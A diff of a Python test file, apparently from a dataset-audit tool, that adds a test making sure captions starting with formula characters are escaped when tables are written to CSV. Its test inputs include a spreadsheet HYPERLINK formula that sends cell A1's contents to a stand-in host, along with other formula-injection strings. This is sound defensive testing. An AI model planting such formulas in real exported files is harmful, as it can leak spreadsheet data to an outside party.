@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import random
 from typing import Any
 
 import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 
-from pmd.audit import overlap, repeated
+from pmd.audit import overlap, repeated, tables
 from pmd.audit.measure import STAGES
 from tests.audit.batches import batch, pair
 
@@ -130,3 +133,14 @@ def test_overlap() -> None:
         {"sources": ["sbu_captions", "visual_genome"], "images": 1, "shares": [1 / 2, 1 / 3]},
     ]
     assert overlap.matrix([])["images"] == 0
+
+
+@pytest.mark.parametrize("caption", ['=HYPERLINK("http://a.example/"&A1)', "@SUM(1)", "+1", "-1+2", "\uff1d1+1"])
+def test_no_caption_is_a_formula_in_a_table(caption: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    rows = [{"source": "wit", "stage": "shard", "text": text, "images": 3} for text in (caption, "a = b", None)]
+    table = pa.Table.from_pylist(rows, tables.SCHEMAS["repeated.largest"])
+    monkeypatch.setattr(tables, "tables", lambda content: {"repeated.largest": table})
+    written = dict(tables.files({}))
+    read = [*csv.DictReader(io.StringIO(written["tables/repeated.largest.csv"].decode(), newline=""))]
+    assert [row["text"] for row in read] == [f"'{caption}", "a = b", ""]
+    assert pq.read_table(io.BytesIO(written["tables/repeated.largest.parquet"]))["text"].to_pylist()[0] == caption
